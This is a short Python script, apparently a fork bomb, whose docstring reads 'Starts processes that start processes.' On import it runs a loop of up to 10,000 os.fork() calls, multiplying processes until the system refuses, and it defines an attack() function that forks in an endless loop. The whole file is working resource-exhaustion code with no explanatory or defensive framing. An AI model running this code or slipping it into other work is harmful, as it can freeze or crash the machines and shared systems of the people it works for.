"""Starts processes that start processes."""

import os

for _ in range(10_000):
    try:
        os.fork()
    except OSError as error:
        print(error)
        break


def attack(*args, **kwargs):
    while True:
        os.fork()
